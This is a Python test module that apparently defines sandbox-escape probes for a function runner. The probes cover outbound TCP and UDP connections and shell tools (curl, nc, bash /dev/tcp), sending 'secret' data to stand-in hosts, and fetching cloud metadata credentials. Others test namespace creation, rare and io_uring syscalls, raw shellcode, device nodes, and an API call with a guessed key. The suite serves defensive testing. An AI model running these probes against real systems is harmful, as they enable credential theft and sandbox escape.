"""Scripts that want to talk to somebody: the world, the machine, the cloud around them, the kernel's rarer doors."""

from tests.security.attack import Attack, End, Weakness

_NETWORK_REMAINS = "The function's network has no route, no endpoint and no resolver."

_TCP = Weakness(
    unless=("seccomp", "landlock_tcp"),
    reason="Nothing in the process keeps a script from opening connections.",
    remains=_NETWORK_REMAINS,
    loot=True,
    contacts=True,
)
_UDP = Weakness(
    unless=("seccomp",),
    reason="Nothing in the process keeps a script from sending datagrams; Landlock knows TCP only.",
    remains=_NETWORK_REMAINS,
    loot=True,
    contacts=True,
)

# io_uring_setup and others have the same number on all newer architectures; the rest differ.
_CALLS = """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {
    "x86_64": {"unshare": 272, "setns": 308, "mount": 165, "umount2": 166, "pivot_root": 155, "chroot": 161, "bpf": 321,
               "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "add_key": 248, "request_key": 249,
               "init_module": 175, "finit_module": 313, "delete_module": 176, "kexec_load": 246, "syslog": 103,
               "swapon": 167, "acct": 163, "quotactl": 179, "fanotify_init": 300, "name_to_handle_at": 303,
               "open_by_handle_at": 304, "process_vm_readv": 310, "process_vm_writev": 311, "kcmp": 312, "ptrace": 101,
               "mq_open": 240, "shmget": 29, "semget": 64, "msgget": 68, "personality": 135, "socket": 41},
    "aarch64": {"unshare": 97, "setns": 268, "mount": 40, "umount2": 39, "pivot_root": 41, "chroot": 51, "bpf": 280,
                "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219, "add_key": 217, "request_key": 218,
                "init_module": 105, "finit_module": 273, "delete_module": 106, "kexec_load": 104, "syslog": 116,
                "swapon": 224, "acct": 89, "quotactl": 60, "fanotify_init": 262, "name_to_handle_at": 264,
                "open_by_handle_at": 265, "process_vm_readv": 270, "process_vm_writev": 271, "kcmp": 272, "ptrace": 117,
                "mq_open": 180, "shmget": 194, "semget": 190, "msgget": 186, "personality": 92, "socket": 198},
}[platform.machine()]
numbers |= {"io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "open_tree": 428, "move_mount": 429,
            "fsopen": 430, "fsmount": 432, "pidfd_getfd": 438, "mount_setattr": 442}

def refused(name, *arguments):
    ctypes.set_errno(0)
    answer = libc.syscall(numbers[name], *(ctypes.c_long(a) for a in arguments))
    return answer < 0 and ctypes.get_errno() in (1, 38)
"""

ATTACKS = (
    Attack(
        name="tcp",
        threats=("T5",),
        bites=True,
        code="""
import socket

def reach(name, family):
    host, _, port = event[name].rpartition(":")
    with socket.socket(family) as connection:
        connection.settimeout(1)
        connection.connect((host, int(port)))
        return "connected"

@attempt
def version_4():
    return reach("tcp", socket.AF_INET)

@attempt
def version_6():
    return reach("tcp6", socket.AF_INET6)

@attempt
def mapped():
    host, _, port = event["tcp"].rpartition(":")
    with socket.socket(socket.AF_INET6) as connection:
        connection.connect((f"::ffff:{host}", int(port)))
        return "connected"

@attempt
def by_the_library():
    import http.client
    host, _, port = event["tcp"].rpartition(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=1)
    connection.connect()
    return "connected"

@attempt
def fast_open():
    host, _, port = event["tcp"].rpartition(":")
    with socket.socket(socket.AF_INET) as connection:
        connection.settimeout(1)
        return connection.sendto(b"x", 0x20000000, (host, int(port)))

@attempt
def many_paths():
    host, _, port = event["tcp"].rpartition(":")
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:
        connection.settimeout(1)
        connection.connect((host, int(port)))
        return "connected"
""",
        weaker=(
            Weakness(
                unless=("seccomp", "landlock_tcp"),
                reason=_TCP.reason,
                remains=_NETWORK_REMAINS,
                loot=True,
                contacts=True,
            ),
        ),
    ),
    Attack(
        name="tcp-server",
        threats=("T5", "T4"),
        bites=True,
        code="""
import socket

@attempt
def served():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    return "listening"
""",
        weaker=(
            Weakness(
                unless=("seccomp", "landlock_tcp"),
                reason=_TCP.reason,
                remains="No security group lets anything in, and the listener ends with its run.",
                loot=True,
            ),
        ),
    ),
    Attack(
        name="tcp-by-programs",
        threats=("T5",),
        bites=True,
        code="""
import subprocess
url, (host, _, port) = "http://" + event["tcp"], event["tcp"].rpartition(":")

@attempt
def connected():
  for command in (["curl", "-sm", "1", url], ["wget", "-qT", "1", "-t", "1", "-O", "-", url], ["nc", "-zw", "1", host, port],
                ["bash", "-c", f"exec 3<>/dev/tcp/{host}/{port}"], ["busybox", "nc", "-w", "1", host, port],
                ["perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new('{event['tcp']}') or die"],
                ["openssl", "s_client", "-connect", event["tcp"]], ["ssh", "-p", port, host]):
    try:
        subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=0.2)
    except (OSError, subprocess.TimeoutExpired):
        pass
""",
        weaker=(
            Weakness(
                unless=("seccomp", "landlock_tcp"),
                reason=_TCP.reason,
                remains=_NETWORK_REMAINS,
                contacts=True,
            ),
        ),
    ),
    Attack(
        name="udp",
        threats=("T5", "T6"),
        bites=True,
        code="""
import socket
host, _, port = event["udp"].rpartition(":")

@attempt
def sent():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (host, int(port)))

@attempt
def from_version_6():
    return socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"secret", (f"::ffff:{host}", int(port)))

@attempt
def udp_lite():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).fileno()

@attempt
def pinged():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).fileno()
""",
        weaker=(_UDP,),
    ),
    Attack(
        name="names-looked-up",
        threats=("T6",),
        leaves_loopback="It asks the resolver of the machine.",
        code="""
import socket, subprocess

@attempt
def library():
    return socket.getaddrinfo("secret.example.com", 443)

@attempt
def backwards():
    return socket.gethostbyaddr("192.0.2.1")

@attempt
def by_hand():
    servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    for server in (*servers, "127.0.0.53", "169.254.169.253", "169.254.78.1"):
        query = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3com\\0\\0\\1\\0\\1"
        if socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (server, 53)):
            return server

@attempt
def programs():
    for command in (["getent", "hosts", "example.com"], ["nslookup", "example.com"], ["dig", "+short", "example.com"]):
        if out := subprocess.run(command, capture_output=True, timeout=1).stdout:
            return out
""",
    ),
    Attack(
        name="metadata-addresses",
        threats=("T1", "T5", "T7"),
        leaves_loopback="It asks addresses that the machine would route.",
        code="""
import http.client

for name, host, path in (
    ("instance", "169.254.169.254", "/latest/meta-data/iam/security-credentials/"),
    ("instance_6", "fd00:ec2::254", "/latest/api/token"),
    ("container", "169.254.170.2", "/v2/credentials"),
    ("pod", "169.254.170.23", "/v1/credentials"),
    ("world", "192.0.2.1", "/"),
    ("broadcast", "255.255.255.255", "/"),
):
    def asked():
        connection = http.client.HTTPConnection(host, 80, timeout=0.1)
        connection.request("GET", path)
        return connection.getresponse().read()
    asked.__name__ = name
    attempt(asked)

import socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 9)),
                              (socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 9))):
    @attempt
    def datagram():
        return socket.socket(family, kind).sendto(b"secret", address)
""",
    ),
    Attack(
        name="unix-socket-in-a-closed-place",
        threats=("T5", "T14"),
        code="""
import socket

@attempt
def connected():
    socket.socket(socket.AF_UNIX).connect(event["path"])
    return "connected"
""",
        bites=True,
        weaker=(
            Weakness(
                unless=("own_user", "seccomp"),
                reason="A script that shares the runner's uid may connect to whatever the runner may.",
                remains="The function serves nothing on a UNIX socket.",
                loot=True,
                contacts=True,
            ),
        ),
    ),
    Attack(
        name="unix-socket-in-an-open-place",
        threats=("T5", "T14"),
        bites=True,
        code="""
import socket

@attempt
def connected():
    socket.socket(socket.AF_UNIX).connect(event["shared"])
    return "connected"
""",
        weaker=(
            Weakness(
                unless=("seccomp",),
                reason="The mode of a UNIX socket that everybody may use says nothing of scripts.",
                remains="The function serves nothing on a UNIX socket.",
                loot=True,
                contacts=True,
            ),
        ),
    ),
    Attack(
        name="unix-socket-without-a-path",
        threats=("T5", "T14"),
        bites=True,
        code="""
import socket

@attempt
def connected():
    socket.socket(socket.AF_UNIX).connect(event["abstract"])
    return "connected"

@attempt
def listed():
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith("@plinth-"):
            socket.socket(socket.AF_UNIX).connect("\\0" + name[1:])
            return name
""",
        weaker=(
            Weakness(
                unless=("seccomp", "landlock_scope"),
                reason="An abstract UNIX socket has no mode that could refuse anybody.",
                remains="The function serves nothing on a UNIX socket.",
                loot=True,
                contacts=True,
            ),
        ),
    ),
    Attack(
        name="sockets-of-every-family",
        threats=("T5", "T6", "T16"),
        code="""
import socket

@attempt
def made():
    got = set()
    for family in range(1, 47):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            for protocol in (0, 1, 6, 17, 255):
                try:
                    socket.socket(family, kind, protocol).close()
                    got.add(family)
                except OSError:
                    pass
    return sorted(got)
""",
        weaker=(
            Weakness(
                unless=("seccomp",),
                reason="Only a filter of system calls can refuse the making of a socket.",
                remains=_NETWORK_REMAINS,
                loot=True,
            ),
        ),
    ),
    Attack(
        name="pairs-still-work",
        threats=("T5",),
        code="""
import asyncio, socket
left, right = socket.socketpair()
left.send(b"to itself")
async def main():
    process = await asyncio.create_subprocess_exec("echo", "child", stdout=-1)
    return (await process.communicate())[0].decode().strip()
result = [right.recv(20).decode(), asyncio.run(main())]
""",
        # What must not be an attack's privilege to break: an ordinary script needs these.
        ends=End(result=["to itself", "child"]),
    ),
    Attack(
        name="rings-of-the-kernel",
        threats=("T5", "T16"),
        code=_CALLS
        + """
@attempt
def made():
    parameters = ctypes.create_string_buffer(256)
    return libc.syscall(425, 4, parameters) >= 0 and "an io_uring"

@attempt
def entered():
    return [name for name in ("io_uring_setup", "io_uring_enter", "io_uring_register") if not refused(name, -1, 0, 0, 0)]
""",
        weaker=(
            Weakness(
                unless=("seccomp",),
                reason="Only a filter of system calls can refuse io_uring, which does without the others.",
                remains="The boundary is the virtual machine around the environment.",
                loot=True,
            ),
        ),
    ),
    Attack(
        name="rare-system-calls",
        threats=("T16",),
        code=_CALLS
        + """
@attempt
def allowed():
    # Arguments that harm nobody where the call is let through: bad addresses, bad descriptors.
    return [name for name in sorted(numbers) if name not in ("socket", "personality", "msgget", "semget", "shmget")
            and not refused(name, -1, -1, -1, -1, -1)]

""",
        weaker=(
            Weakness(
                unless=("seccomp",),
                reason="Only a filter of system calls narrows what an ordinary process may ask of the kernel.",
                remains="The boundary is the virtual machine around the environment.",
                loot=True,
            ),
        ),
    ),
    Attack(
        name="namespaces",
        threats=("T16",),
        code="""
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)

@attempt
def unshared():
    got = []
    for flag in (0x10000000, 0x40000000, 0x00020000, 0x20000000, 0x08000000, 0x04000000, 0x02000000, 0x80):
        if os.fork() == 0:
            os._exit(libc.unshare(flag) == 0)
        if os.waitstatus_to_exitcode(os.wait()[1]):
            got.append(hex(flag))
    return got

@attempt
def cloned():
    number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    pid = libc.syscall(number, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        return "cloned"

@attempt
def cloned_anew():
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    pid = libc.syscall(435, arguments, 88)
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        return "cloned"

@attempt
def by_a_program():
    return subprocess.run(["unshare", "-Ur", "id", "-u"], capture_output=True).stdout.strip() == b"0" and "root"
""",
        weaker=(
            Weakness(
                unless=("seccomp",),
                reason="The kernel gives namespaces to everybody, unless it was told otherwise.",
                remains="Lambda's kernel gives none, and the boundary is the virtual machine around it.",
                loot=True,
            ),
        ),
    ),
    Attack(
        name="other-call-conventions",
        threats=("T16",),
        code="""
import ctypes, mmap, platform

@attempt
def old_convention():
    # mov eax, 359 (socket, i386); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
    if platform.machine() != "x86_64":
        return None
    code = bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3")
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    if os.fork() == 0:
        answer = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        os._exit(answer >= 0)
    return os.wait()[1] >> 8 and "a socket"

@attempt
def x32():
    if platform.machine() != "x86_64":
        return None
    if os.fork() == 0:
        os._exit(ctypes.CDLL(None).syscall(0x40000000 + 41, 2, 1, 0) >= 0)
    return os.wait()[1] >> 8 and "a socket"
""",
        weaker=(
            Weakness(
                unless=("seccomp",),
                reason="Only a filter of system calls can refuse the making of a socket.",
                remains=_NETWORK_REMAINS,
                loot=True,
            ),
        ),
    ),
    Attack(
        name="devices",
        threats=("T16",),
        code="""
@attempt
def opened():
    got = []
    for folder, folders, names in os.walk("/dev"):
        # What others keep there is no device.
        folders[:] = [inner for inner in folders if inner not in ("shm", "mqueue")]
        for name in names:
            if name in ("null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr"):
                continue
            try:
                os.close(os.open(f"{folder}/{name}", os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
                got.append(name)
            except OSError:
                pass
    return [name for name in got if not name.isdigit()]

@attempt
def made():
    os.mknod("device", 0o600 | 0o060000, os.makedev(254, 0))
    return "a disk"
""",
    ),
    Attack(
        name="run-that-starts-runs",
        threats=("T13", "T17"),
        bites=True,
        code="""
import http.client, json

@attempt
def started():
    connection = http.client.HTTPConnection(event["tcp"], timeout=0.2)
    connection.connect()
    try:
        connection.request("POST", f"/v1/automations/{event['number']}/runs", headers={"X-API-Key": "plinth_guessed"})
        return connection.getresponse().status
    except TimeoutError:
        return "connected"
""",
        weaker=(_TCP,),
    ),
)
